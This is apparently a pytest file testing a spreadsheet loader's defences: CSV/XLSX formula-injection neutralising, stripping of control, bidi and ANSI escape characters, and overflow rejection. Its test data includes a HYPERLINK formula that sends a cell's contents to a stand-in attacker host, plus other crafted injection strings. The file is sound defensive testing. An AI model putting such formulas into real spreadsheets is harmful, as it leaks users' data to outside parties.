"""Crafted text in a spreadsheet: formulas stay inert in every export, control and bidi characters never reach the
store, and a number stays finite after unit conversion."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from indicators.store import Store
from loaders.errors import LoaderError
from loaders.export import export_observations
from loaders.importer import prepare_import, publish
from tests.conftest import TEMPLATE_HEADER, write_xlsx

FORMULA_SOURCE = '=HYPERLINK("http://attacker.example/?x="&A1,"点此查看")'
ROW = ["天津市", "空气质量优良天数比例", 2021, None, 72.3, "%", "正式"]


def write_text_cells(path: Path, rows: list[list[object]]) -> Path:
    """A template whose text cells are string cells even when they begin with '=' (openpyxl would write a formula)."""
    book = Workbook()
    sheet = book.active
    sheet.title = "数据"
    sheet.append(TEMPLATE_HEADER)
    for row in rows:
        sheet.append(row)
        for cell in sheet[sheet.max_row]:
            if isinstance(cell.value, str):
                cell.data_type = "s"
    book.save(path)
    return path


def publish_file(path: Path, catalogue, store: Store):
    preview = prepare_import(path, catalogue, store)
    return preview, publish(preview, store, "tester")


def formula_cells(path: Path) -> list[str]:
    book = load_workbook(path)
    return [f"{ws.title}!{c.coordinate}" for ws in book.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]


@pytest.mark.parametrize("text", [FORMULA_SOURCE, "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1"])
def test_formula_text_from_data_is_never_a_formula_in_the_xlsx_export(tmp_path: Path, catalogue, store: Store, text: str):
    publish_file(write_text_cells(tmp_path / "in.xlsx", [[*ROW, text, text]]), catalogue, store)
    export_observations(store, catalogue, tmp_path / "out.xlsx")
    assert formula_cells(tmp_path / "out.xlsx") == []
    cells = [c.value for c in load_workbook(tmp_path / "out.xlsx").active[2]]
    assert cells[7:9] == [text.strip(), text.strip()]


def test_formula_text_is_marked_in_the_csv_export_and_reads_back_exactly(tmp_path: Path, catalogue, store: Store):
    publish_file(write_text_cells(tmp_path / "in.xlsx", [[*ROW, FORMULA_SOURCE, "-1—9月"]]), catalogue, store)
    export_observations(store, catalogue, tmp_path / "out.csv")
    with open(tmp_path / "out.csv", encoding="utf-8-sig", newline="") as handle:
        header, row = list(csv.reader(handle))
    assert header == TEMPLATE_HEADER
    assert row[7] == "'" + FORMULA_SOURCE and row[8] == "'-1—9月"
    again = Store(tmp_path / "again.duckdb")
    again.initialise(catalogue)
    publish_file(tmp_path / "out.csv", catalogue, again)
    current = again.current_observations()
    assert list(current["source"]) == [FORMULA_SOURCE] and list(current["note"]) == ["-1—9月"]


def test_control_and_bidi_characters_are_removed_with_a_warning_naming_the_cell(tmp_path: Path, catalogue, store: Store):
    rows = [[*ROW, "公报\u202e（倒序）\u2066", "第一行\x85\n第二行\x7f"]]
    preview, _ = publish_file(write_xlsx(tmp_path / "in.xlsx", rows), catalogue, store)
    current = store.current_observations()
    assert list(current["source"]) == ["公报（倒序）"]
    assert list(current["note"]) == ["第一行\n第二行"]
    warned = {w.cell for w in preview.warnings if "控制字符" in w.message_zh}
    assert warned == {"H2", "I2"}


def test_an_escape_sequence_in_a_csv_never_reaches_the_store(tmp_path: Path, catalogue, store: Store):
    path = tmp_path / "in.csv"
    path.write_text(",".join(TEMPLATE_HEADER) + "\n" + ",".join("" if v is None else str(v) for v in ROW) + ",\x1b[2J公报\x01,备注\x1b]0;x\x07\n",
                    encoding="utf-8")
    publish_file(path, catalogue, store)
    current = store.current_observations()
    assert list(current["source"]) == ["[2J公报"] and list(current["note"]) == ["备注]0;x"]


def test_an_xlsx_escaped_control_character_is_removed_before_it_is_stored(tmp_path: Path, catalogue, store: Store):
    publish_file(write_xlsx(tmp_path / "in.xlsx", [[*ROW, "公报_x0001_", "_x001B_备注"]]), catalogue, store)
    current = store.current_observations()
    assert list(current["source"]) == ["公报"] and list(current["note"]) == ["备注"]
    export_observations(store, catalogue, tmp_path / "out.xlsx")  # would fail on a control character
    assert load_workbook(tmp_path / "out.xlsx").active["H2"].value == "公报"


def test_a_value_that_overflows_in_unit_conversion_is_refused_naming_its_cell(tmp_path: Path, catalogue, store: Store):
    rows = [["天津市", "二氧化碳排放量", 2019, None, 1.7e307, "亿吨", "正式", "CEADs", None]]
    with pytest.raises(LoaderError) as caught:
        prepare_import(write_xlsx(tmp_path / "huge.xlsx", rows), catalogue, store)
    assert [p.cell for p in caught.value.problems] == ["E2"]
    assert "无穷大" in str(caught.value)
    assert store.current_observations().empty
